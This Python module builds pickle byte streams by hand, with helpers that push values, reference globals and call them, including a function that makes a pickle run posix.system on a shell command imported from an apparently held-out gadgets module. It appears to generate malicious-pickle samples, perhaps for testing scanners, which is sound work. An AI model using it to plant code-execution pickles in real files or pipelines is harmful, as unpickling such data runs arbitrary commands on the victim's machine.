"""Opcodes of pickles, put together by hand."""

import struct

import numpy as np

from held_out.gadgets import SHELL

Rng = np.random.Generator


def text(value: str) -> bytes:
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data if len(data) < 256 else (
        b"X" + struct.pack("<I", len(data)) + data)  # fmt: skip


def raw(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def push(value: object) -> bytes:
    if value is None:
        return b"N"
    if isinstance(value, bool):
        return b"\x88" if value else b"\x89"
    if isinstance(value, int):
        return b"J" + struct.pack("<i", value)
    if isinstance(value, str):
        return text(value)
    if isinstance(value, bytes):
        return raw(value)
    if isinstance(value, tuple):
        return b"(" + b"".join(push(v) for v in value) + b"t"
    if isinstance(value, list):
        return b"](" + b"".join(push(v) for v in value) + b"e"
    if isinstance(value, dict):
        return b"}(" + b"".join(push(k) + push(v) for k, v in value.items()) + b"u"
    raise TypeError(value)


def named(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def stacked(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"


def call(function: bytes, *args: object) -> bytes:
    return function + push(tuple(args)) + b"R"


def system() -> bytes:
    """Return opcodes that leave the result of `os.system` on the stack."""
    return call(stacked("posix", "system"), SHELL)


def made(body: bytes, protocol: int = 4) -> bytes:
    return b"\x80" + bytes([protocol]) + body + b"."
